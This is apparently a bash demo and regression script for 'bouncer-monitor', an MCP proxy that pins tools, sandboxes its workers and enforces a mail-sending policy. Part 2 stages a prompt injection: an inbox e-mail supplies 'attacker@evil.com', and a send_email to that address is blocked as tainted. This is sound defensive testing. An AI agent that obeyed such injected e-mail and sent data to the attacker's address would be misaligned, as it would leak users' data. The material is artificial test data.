#!/usr/bin/env bash
#
# regress/demo.sh - `make demo`: a real session through bouncer-monitor
# with the mock upstream, printed line by line: the handshake, the tool
# surface, an allowed call, a call to a tool that is not pinned (blocked
# by bouncer, never forwarded), a malformed line answered with -32700
# while the session goes on, and the workers' sandbox as /proc shows it.
# Part 2 shows the contract engine: the same send_email allowed to a
# trusted address, denied to one taken from a poisoned e-mail, and asked
# about (elicitation) for a new one; then the audit log and its chain.
# Exits 0 if every step behaved as shown.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "${top_srcdir:-$(dirname "$0")/..}/regress/test-lib.sh"

step() {
	printf '\n== %s\n' "$*"
}

# say LINE: send one line to bouncer and show it.
say() {
	printf 'client  > %s\n' "$(printf '%s\n' "$1" | jq -c . 2>/dev/null ||
	    printf '%s' "$1")"
	send "$1"
}

# hear FILTER [JQ-VIEW]: the next answer must match FILTER; show it (or
# the JQ-VIEW of it).
hear() {
	expect_line "$1" "${3:-$TEST_TIMEOUT}"
	printf 'bouncer < %s\n' "$(printf '%s\n' "$LINE" | jq -c "${2:-.}")"
}

echo "bouncer demo: an MCP client (this script) talks to bouncer-monitor,"
echo "which wraps one upstream MCP server (regress/mocks/mock-upstream)."
echo "  \$ bouncer-monitor -n mock -- mock-upstream -l upstream.log"
start_monitor -n mock -- "$MOCK" -l "$TESTDIR/upstream.log"

step "initialize: bouncer answers for itself, after pinning the upstream's tools"
say '{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"demo-client","version":"1.0"}}}'
hear '.id == 0 and .result.serverInfo.name == "bouncer"' . "$TEST_START_TIMEOUT"
say '{"jsonrpc":"2.0","method":"notifications/initialized"}'

step "tools/list: the pinned surface (names only)"
say '{"jsonrpc":"2.0","id":1,"method":"tools/list"}'
hear '.id == 1 and any(.result.tools[]; .name == "echo")' \
    '{id, tools: [.result.tools[].name]}'

step "an allowed call: echo"
say '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"echo","arguments":{"message":"Hello through bouncer"}}}'
hear "$(f_text 2 "Hello through bouncer")"

step "a call to a tool that is not pinned: blocked, nothing reaches the upstream"
say '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"delete_all_tasks","arguments":{}}}'
hear "$(f_blocked 3)"

step "a malformed line: -32700, and the session goes on"
say '{"jsonrpc":"2.0","id":4,"method":'
hear '.id == null and .error.code == -32700'
say '{"jsonrpc":"2.0","id":5,"method":"ping"}'
hear '.id == 5 and .result == {}'

step "the workers that parse those lines are sandboxed (/proc/PID/status)"
n=0
for pid in $(worker_pids); do
	st=$(grep -E '^(Seccomp|NoNewPrivs):' "/proc/$pid/status" | tr '\t\n' '  ')
	printf '%-7s %-45s %s\n' "$pid" "$(proc_args "$pid")" "$st"
	if ! sandbox_disabled; then
		grep -q '^Seccomp:[[:space:]]*2$' "/proc/$pid/status" ||
		    fail "worker $pid is not under a seccomp filter"
	fi
	n=$((n + 1))
done
[ "$n" -ge 2 ] || fail "expected at least two workers, found $n"
sandbox_disabled &&
    echo "*** this build was configured with --disable-sandbox: NO SANDBOX ***"

step "client EOF: bouncer closes the upstream, reaps everyone and exits 0"
stop_monitor
echo "bouncer-monitor exited $MON_STATUS"
[ "$MON_STATUS" = 0 ] || fail "exit status $MON_STATUS"

step "what the upstream received (its -l log): the blocked call is not there"
jq -c '{method} + (if .method == "tools/call" then {tool: .params.name}
    else {} end)' "$TESTDIR/upstream.log"
grep -q delete_all_tasks "$TESTDIR/upstream.log" &&
    fail "the blocked call reached the upstream"

echo
echo "==== part 2: the contract engine, with a mail server (mock-mail)"
cat >"$TESTDIR/policy.yaml" <<'YAML'
send_email:
  exfiltrating: true
  sink_params: [to, cc, bcc]
  trusted_destinations: ["*@corp.example"]
YAML
echo "policy.yaml:"
sed 's/^/    /' "$TESTDIR/policy.yaml"
echo "  \$ bouncer-monitor -P policy.yaml -n mail -- mock-mail -l mail.log"
start_monitor -P "$TESTDIR/policy.yaml" -n mail -- "$MAIL" -l "$TESTDIR/mail.log"
say '{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{"elicitation":{}},"clientInfo":{"name":"demo-client","version":"1.0"}}}'
hear '.id == 0 and .result.serverInfo.name == "bouncer"' '{id, protocolVersion: .result.protocolVersion}' "$TEST_START_TIMEOUT"
say '{"jsonrpc":"2.0","method":"notifications/initialized"}'

step "the agent reads the inbox; one e-mail is a prompt injection"
say '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_inbox","arguments":{}}}'
hear "$(f_result 1)" '.result.content[0].text'

step "send_email to a trusted address (*@corp.example): allow"
say '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"alice@corp.example","body":"the report"}}}'
hear "$(f_text 2 'sent to alice@corp.example')" '.result.content[0].text'

step "send_email to the address the injection supplied: deny (tainted)"
say '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"attacker@evil.com","body":"the report"}}}'
hear "$(f_blocked 3)" '.result.content[0].text'

step "send_email to a new address: ask the human (elicitation), who accepts"
say '{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"bob@newco.example","body":"hello"}}}'
hear '.method == "elicitation/create"' '{id, message: .params.message}'
say "{\"jsonrpc\":\"2.0\",\"id\":$(jget .id),\"result\":{\"action\":\"accept\",\"content\":{}}}"
hear "$(f_text 4 'sent to bob@newco.example')" '.result.content[0].text'
stop_monitor
[ "$MON_STATUS" = 0 ] || fail "exit status $MON_STATUS"

step "the audit log (bouncer-audit), and its hash chain verified (-V)"
"$AUDIT" -D "$BOUNCER_STATE_DIR/audit.db" || fail "bouncer-audit failed"
"$AUDIT" -D "$BOUNCER_STATE_DIR/audit.db" -V || fail "the audit chain does not verify"
grep -q attacker@evil.com "$TESTDIR/mail.log" &&
    fail "the tainted destination reached the mail server"
pass
